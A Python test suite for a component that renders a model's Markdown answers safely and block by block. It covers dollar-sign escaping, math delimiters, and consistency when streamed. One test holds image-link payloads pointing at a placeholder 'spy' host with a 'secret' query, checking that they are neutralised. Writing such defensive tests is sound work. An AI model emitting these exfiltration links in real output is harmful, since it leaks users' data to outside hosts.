"""A model's Markdown: shown as it was written, safe, and drawn block by block."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from components.markdown import finished_length, plain, prepare

ANSWER = """# Head

One **bold** paragraph
on two lines.

- a
- b

  still b

1. x

| a | b |
|---|---|
| 1 | 2 |

```python
print(1)

print(2)
```

> quote

End."""


@pytest.mark.parametrize(
    ("written", "prepared"),
    [
        ("from $5 to $10", r"from \$5 to \$10"),
        ("from $5 to $10, $x^2$", r"from \$5 to \$10, $x^2$"),
        (r"\(a+b\) is short", "$a+b$ is short"),
        (r"\[x = 1\]", "$$x = 1$$"),
        ("$$\na = b\n$$\nfor $4", "$$\na = b\n$$\n" + r"for \$4"),
        ("`$5` and ```$6```", "`$5` and ```$6```"),
        ("```sh\necho $HOME ![x](y)\n```\n", "```sh\necho $HOME ![x](y)\n```\n"),
        ("```sh\necho $HOME", "```sh\necho $HOME"),
        (":red[alarm] at 10:30", r"\:red[alarm] at 10:30"),
        ("see http://a.example/b", "see http://a.example/b"),
    ],
)
def test_what_a_model_wrote_is_what_is_shown(written: str, prepared: str) -> None:
    assert prepare(written) == prepared


@pytest.mark.parametrize(
    "written", ["![pixel](https://spy.example/?q=secret)", "![a [b] c](https://spy.example)", "x ![][1]\n\n[1]: //spy"]
)
def test_no_image_is_left_for_the_browser_to_fetch(written: str) -> None:
    assert "<img" not in MarkdownIt("commonmark").render(prepare(written))


def test_a_block_is_finished_once_another_one_has_begun() -> None:
    assert ANSWER[: finished_length("# Head\n\nOne")] == ""
    assert finished_length("# Head\n\nOne\n") == len("# Head\n\n")


@pytest.mark.parametrize("open_block", ["- a\n\n  b\n\n- c\n", "```\nx\n\ny\n", "| a |\n|---|\n| 1 |\n", "$$\na\n\nb\n"])
def test_lists_fences_tables_and_formulas_stay_whole(open_block: str) -> None:
    assert finished_length(f"Before.\n\n{open_block}") <= len("Before.\n\n")


def drawn_in_blocks(text: str, cuts: list[int]) -> str:
    """The HTML of a text that arrives in pieces, each finished block rendered for itself."""
    renderer = MarkdownIt("commonmark").enable("table")
    html, start = "", 0
    for cut in [*sorted(cut % (len(text) + 1) for cut in cuts), len(text)]:
        if length := finished_length(text[start:cut]):
            html += renderer.render(text[start : start + length])
            start += length
    return html + renderer.render(text[start:])


@given(st.lists(st.integers(0, 10_000)))
def test_an_answer_drawn_in_blocks_is_the_answer_drawn_whole(cuts: list[int]) -> None:
    assert drawn_in_blocks(ANSWER, cuts) == MarkdownIt("commonmark").enable("table").render(ANSWER)


LINES = st.sampled_from(
    ["word", "", "- item", "  more", "1. one", "> quote", "```", "# head", "---", "| a |", "|---|", "    code", "***", "\tx"]
)


@given(st.lists(LINES, max_size=14), st.lists(st.integers(0, 200)))
def test_any_blocks_drawn_apart_are_the_same_drawn_whole(lines: list[str], cuts: list[int]) -> None:
    text = "\n".join(lines)
    whole = MarkdownIt("commonmark").enable("table").render(text)
    assert drawn_in_blocks(text, cuts) == whole


@given(st.text())
def test_plain_text_is_shown_character_for_character(text: str) -> None:
    shown = MarkdownIt("commonmark").renderInline(plain(text))
    unescaped = shown.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
    assert unescaped == " ".join(text.replace("\x00", "\ufffd").split())
